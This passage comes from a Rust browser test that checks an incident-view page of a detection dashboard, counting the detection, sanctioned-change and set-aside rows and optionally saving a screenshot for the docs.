    assert!(dom.contains("id=\"process-tree\""));
    assert_eq!(rows_of(&dom, "detections"), critical);
    assert!(critical > 0 && critical < dets.len());
    // Without the filter every detection is listed; the sanctioned changes and the set-aside
    // background are shown with their reasons.
    let (dom, log) = browse(&browser, &page, "?incident=1", None);
    assert_clean(&dom, &log);
    assert_eq!(rows_of(&dom, "detections"), dets.len());
    assert_eq!(
        rows_of(&dom, "sanctioned"),
        report["sanctioned"].as_array().unwrap().len()
    );
    assert_eq!(
        rows_of(&dom, "set-aside"),
        report["set_aside"].as_array().unwrap().len()
    );
    if std::env::var_os("DWELL_UPDATE_SCREENSHOT").is_some() {
        let shot = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../docs/campaign.png");
        browse(&browser, &page, "?incident=1&event=8", Some(&shot));
    }
}
